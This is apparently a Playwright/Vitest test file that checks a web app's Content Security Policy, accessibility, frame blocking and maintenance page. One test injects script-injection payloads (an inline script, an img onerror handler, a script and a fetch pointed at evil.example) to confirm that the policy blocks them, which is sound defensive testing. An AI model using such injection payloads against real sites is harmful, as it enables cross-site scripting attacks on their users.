/// <reference lib="dom" />
import type { BrowserContext, Page } from "playwright-core";
import { afterAll, beforeAll, describe, expect, it } from "vitest";

import { seriousFindings } from "../browser/axe.ts";
import { openBrowser } from "../lib/browser.ts";
import { Project } from "../lib/project.ts";
import { stackUnderTest } from "../stacks.ts";

const stack = stackUnderTest();
const project = Project.open(stack.instance, stack.ports);
const base = `https://localhost:${stack.ports.https}`;

describe("the frontend in a real browser, over the rehearsal CA", () => {
  let context: BrowserContext;
  let page: Page;
  let close: () => Promise<void> = async () => {};
  const said: string[] = [];

  beforeAll(async () => {
    ({ context, close } = await openBrowser(project));
    page = await context.newPage();
    page.on("console", (message) => said.push(`${message.type()}: ${message.text()}`));
    page.on("pageerror", (error) => said.push(`error: ${error.message}`));
  });
  const open = () => page.goto(base, { waitUntil: "networkidle", timeout: 60_000 });
  afterAll(() => close());

  it("PROD-7 the content policy lets the built frontend work: it renders, calls its API and styles itself", async () => {
    const answer = await open();
    expect(answer?.headers()["content-security-policy"]).toContain("default-src 'self'");
    expect(await page.locator("#root").innerText()).not.toBe("");
    expect(await page.evaluate(() => fetch("/api/v1/health/").then((response) => response.status))).toBe(200);
    expect(await page.evaluate(() => [...document.styleSheets].reduce((sum, sheet) => sum + sheet.cssRules.length, 0))).toBeGreaterThan(10);
    expect(said.filter((line) => /content security policy|refused to|blocked/i.test(line))).toEqual([]);
  });

  it("PLAT-4 axe finds nothing serious on the pages that anybody may open", async () => {
    for (const path of ["/", "/sign-in", "/register"]) {
      await page.goto(base + path, { waitUntil: "networkidle", timeout: 60_000 });
      expect(await seriousFindings(page)).toEqual([]);
    }
  });

  it("PROD-7 the content policy stops code that a page was made to carry", async () => {
    await open();
    const ran = await page.evaluate(async () => {
      const violations: string[] = [];
      document.addEventListener("securitypolicyviolation", (event) => violations.push(event.effectiveDirective));
      const script = document.createElement("script");
      script.textContent = "window.injected = 1";
      document.body.append(script);
      document.body.insertAdjacentHTML("beforeend", '<img src="x" onerror="window.injected = 2"><object data="/favicon.svg"></object>');
      const far = document.createElement("script");
      far.src = "https://evil.example/x.js";
      document.body.append(far);
      // Later than this call: what the debugger itself runs may evaluate.
      setTimeout("window.injected = 3", 0);
      const fetched = await fetch("https://evil.example/").then(
        () => true,
        () => false,
      );
      await new Promise((wake) => setTimeout(wake, 500));
      return { injected: (window as { injected?: number }).injected, fetched, violations };
    });
    expect(ran).toMatchObject({ injected: undefined, fetched: false });
    for (const directive of ["script-src", "script-src-elem", "script-src-attr", "object-src", "connect-src"])
      expect(ran.violations).toContain(directive);
  });

  it("PROD-7 no page of another origin frames this one", async () => {
    const outer = await context.newPage();
    await outer.goto("about:blank");
    await outer.setContent(`<iframe src="${base}/" id="inside"></iframe>`);
    await outer.waitForTimeout(1500);
    const inside = outer.frames().find((frame) => frame !== outer.mainFrame());
    expect(await inside?.evaluate(() => document.querySelector("#root")?.textContent ?? "").catch(() => "")).toBe("");
    await outer.close();
  });

  it("PROD-7 the maintenance page is styled under the same policy", async () => {
    await project.mustOps("maintenance", ["on", "--message", "Moving <b>house</b>"]);
    try {
      said.length = 0;
      const answer = await open();
      expect(answer?.status()).toBe(503);
      expect(await page.locator("p").first().innerText()).toBe("Moving <b>house</b>");
      expect(await page.evaluate(() => getComputedStyle(document.body).display)).toBe("grid");
      expect(said.filter((line) => /content security policy/i.test(line))).toEqual([]);
    } finally {
      await project.mustOps("maintenance", ["off"]);
    }
  });
});
